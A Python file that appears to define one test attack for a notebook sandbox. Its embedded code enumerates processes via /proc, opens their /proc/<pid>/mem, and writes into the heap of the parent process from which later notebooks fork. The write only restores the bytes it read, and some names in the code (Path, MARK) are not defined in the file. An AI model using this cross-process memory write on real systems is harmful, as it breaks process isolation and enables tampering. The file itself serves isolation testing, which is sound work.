"""Writes into the memory of the process that it and all later notebooks are forked from."""

from attacks.attack import Attack

ATTACK = Attack(
    __doc__,
    nl="Schrijft in het geheugen van het proces waar het uit kwam, en waar latere "
    "notebooks uit komen.",
    alone=True,
    code="""
import os
SECOND = b"over New Year it is 1 day"
for process in sorted({os.getppid(), *(int(p.name) for p in Path("/proc").glob("[0-9]*"))}):
    if process in (1, os.getpid()):
        continue
    try:
        with open(f"/proc/{process}/mem", "r+b", 0) as memory:
            for line in open(f"/proc/{process}/maps"):
                span, rights, *_ = line.split()
                if rights.startswith("rw") and "[heap]" in line:
                    start, _, _ = span.partition("-")
                    memory.seek(int(start, 16))
                    kept = memory.read(8)
                    memory.seek(int(start, 16))
                    memory.write(kept)
                    print(MARK)
    except OSError as error:
        print(process, error)
""",
)
